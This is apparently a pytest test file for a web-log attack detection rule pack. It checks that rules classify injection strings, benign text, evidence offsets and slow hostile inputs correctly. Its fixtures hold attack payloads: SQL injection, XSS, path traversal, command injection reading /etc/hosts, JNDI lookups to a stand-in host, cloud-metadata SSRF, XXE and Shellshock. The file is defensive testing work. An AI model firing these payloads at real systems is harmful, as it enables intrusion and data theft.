"""Matching over batches: what the pack says of known lines, evidence, purity, and time on hostile lines."""

import random
import time
from importlib.resources import files
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detection.detection_settings import RuleText
from detection.rules.rule_matching import MEMO_FIELDS, RuleSet

PACK = RuleText("builtin", (files("detection") / "rulepack.toml").read_text("utf-8"))
RULES = RuleSet.compile([PACK])


def types(target: str, agent: str = "Mozilla/5.0", line: str = "", *, web: bool = True) -> set[str]:
    hits = RULES.match([target.encode()], [agent.encode()], [line.encode()], web=web)
    return {RULES.rules[rule].attack_type for rule in hits.rules.tolist()}


@pytest.mark.parametrize(
    ("target", "wanted"),
    [
        ("/item?id=-1%20UNION%20SELECT%201,user()", "sql_injection"),
        ("/item?id=1'%20AND%20SLEEP(5)--%20-", "sql_injection"),
        ("/item?id=1%2527%2520or%25201%253D1", "sql_injection"),
        ("/search?q=%3CsCrIpT%3Ealert(1)%3C/script%3E", "xss"),
        ("/search?q=%22%20onmouseover=alert(1)", "xss"),
        ("/view?page=..%2f..%2f..%2fetc%2fpasswd", "path_traversal"),
        ("/ping?host=1.1.1.1;cat%20/etc/hosts", "command_injection"),
        ("/x?q=$%7Bjndi:ldap://e.vil/a%7D", "template_injection"),
        ("/x?q=%7B%7B7*7%7D%7D", "template_injection"),
        ("/x?page=php://input", "code_injection"),
        ("/x?d=%3C!ENTITY%20x%20SYSTEM%20%22file:///a%22%3E", "xxe"),
        ("/x?url=http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("/x?u=a%0d%0aSet-Cookie:%20a=b", "crlf_injection"),
        ("/login?user[$ne]=x", "nosql_injection"),
        ("/x?user=*)(uid=*))(|(uid=*", "ldap_injection"),
        ("/.env", "sensitive_file"),
        ("/.git/config", "sensitive_file"),
        ("/wp-config.php.bak", "sensitive_file"),
        ("/phpmyadmin/", "probe"),
    ],
)
def test_an_attack_is_called_by_its_name(target: str, wanted: str) -> None:
    assert wanted in types(target)


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien", "select a colour", "1; 2", "c/ l' or, 125", "black or white", "rock 'n' roll", "union square",
        "5 < 6", "100% cotton", "AT&T", "drop me a line; call you later", "where is the exit?", "a -- b",
        '7" vinyl', "<3", "C# and F#", "the cat; the dog", "price: $5 (net)", "order by 5 pm", "x=1&y=2",
        "https://example.com/a?b=c", "me@example.com", "select * your size", "what is /etc?", "it's --", "{name}",
        "${name}", "{{item.src}}",
    ],
)  # fmt: skip
def test_what_people_type_stays_silent(value: str) -> None:
    assert types("/search?q=" + quote(value, safe="")) == set()
    assert types("/search?page=2&q=" + quote(value, safe="").replace("%20", "+")) == set()


def test_tools_are_known_by_their_user_agent_only_in_web_lines() -> None:
    assert types("/", "sqlmap/1.7") == {"scanner"}
    assert types("/", "sqlmap/1.7", web=False) == set()


def test_messages_meet_message_and_line_rules_only() -> None:
    assert types("select * from users where id=1 or 1=1 -- /etc/passwd", web=False) == set()
    assert types("reverse mapping failed - POSSIBLE BREAK-IN ATTEMPT!", web=False) == {"intrusion"}
    assert types("user said", line="user said ${jndi:ldap://x/a}", web=False) == {"template_injection"}


def test_hits_are_sorted_by_line_then_rule_and_empty_batches_are_fine() -> None:
    targets = [b"/x?q=<script>alert(1)</script>' or 1=1--", b"/", b"/.env", b"/x?q=<script>alert(1)</script>' or 1=1--"]
    hits = RULES.match(targets, [b"nikto"] * 4, [b""] * 4, web=True)
    pairs = list(zip(hits.lines.tolist(), hits.rules.tolist(), strict=True))

    assert pairs == sorted(set(pairs))
    assert [r for i, r in pairs if i == 0] == [r for i, r in pairs if i == 3]
    assert {i for i, _ in pairs} == {0, 1, 2, 3}
    assert hits.lines.dtype == hits.rules.dtype == "int32"
    assert RULES.match([], [], [], web=True).lines.shape == (0,)


def test_evidence_points_at_the_match_in_the_decoded_field() -> None:
    target, agent, line = b"/x?a=1&q=%3CScript%3E", b"Mozilla", b"-"
    number = next(n for n, rule in enumerate(RULES.rules) if rule.name == "xss-script")

    evidence = RULES.evidence(number, target, agent, line)

    assert evidence.rule.severity == "high"
    assert (evidence.field, evidence.text) == ("target", "<script")
    assert b"/x?a=1&q=<script>"[evidence.start : evidence.end] == b"<script"
    assert (evidence.before, evidence.after) == ("/x?a=1&q=", ">")
    far = RULES.evidence(number, b"/x?q=" + b"a" * 500 + b"<script>" + b"b" * 500, agent, line)
    assert (far.before, far.text, far.after) == ("a" * 60, "<script", ">" + "b" * 59)
    with pytest.raises(ValueError, match="'xss-script' does not match this target"):
        RULES.evidence(number, b"/", agent, line)


def test_every_hit_has_evidence() -> None:
    line = b'1.1.1.1 - - [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "() { :;}; ${jndi:ldap://a}"'
    given_lines = (b"/x?q=${jndi:ldap://a}'+or+1=1--<script>", b"() { :;}; nikto", line)
    hits = RULES.match(*([part] for part in given_lines), web=True)

    found = {RULES.evidence(rule, *given_lines).field for rule in hits.rules.tolist()}

    assert found == {"target", "agent", "line"}


_WORDS = [
    b"'",
    b" or ",
    b"1=1",
    b"<script>",
    b"../",
    b"/etc/passwd",
    b"%27",
    b"select ",
    b"union ",
    b"from x",
    b"a" * 300,
]
_FIELDS = st.lists(st.sampled_from(_WORDS) | st.binary(max_size=9), max_size=8).map(b"".join)


@settings(max_examples=60, deadline=None)
@given(st.lists(_FIELDS, max_size=12), st.booleans())
def test_a_hit_depends_on_its_line_alone(fields: list[bytes], web: bool) -> None:
    together = RULES.match(fields, fields, fields, web=web)
    alone = [
        (i, rule)
        for i, field in enumerate(fields)
        for rule in _FRESH.match([field], [field], [field], web=web).rules.tolist()
    ]

    assert list(zip(together.lines.tolist(), together.rules.tolist(), strict=True)) == alone


_FRESH = RuleSet.compile([PACK])


def test_answers_stay_the_same_when_the_memo_overflows() -> None:
    rules = RuleSet.compile([PACK])
    targets = [b"/page/%d%s" % (n, b"?q=<script>" if n % 100 == 0 else b"") for n in range(2 * MEMO_FIELDS + 500)]
    blank = [b""] * len(targets)

    first, second = (rules.match(targets, blank, blank, web=True).lines.tolist() for _ in range(2))

    assert first == second == list(range(0, len(targets), 100))
    assert all(len(memo) <= MEMO_FIELDS for memo in rules._memo.values())


@pytest.mark.parametrize("name", ["a!", "percent", "quotes", "random", "entities"])
def test_hostile_lines_take_milliseconds(name: str) -> None:
    chance = random.Random(3)
    line = {
        "a!": b"a" * 65535 + b"!",
        "percent": b"%25" * 21845,
        "quotes": b"'\"" * 32768,
        "random": chance.randbytes(65536),
        "entities": b"&#1;" * 16384,
    }[name]
    taken = []
    for _ in range(5):
        began = time.process_time()
        RULES.match([line], [b"-"], [line], web=True)
        taken.append(time.process_time() - began)

    # Measured: 0.3 to 3 ms. The limit leaves room for a slow machine; a backtracking engine takes seconds.
    assert min(taken) < 0.02


def test_what_lies_beyond_the_cut_is_not_looked_at() -> None:
    assert types("/x?q=" + "z" * 100 + "<script>") == {"xss"}
    assert types("/x?q=" + "z" * 70_000 + "<script>") == set()
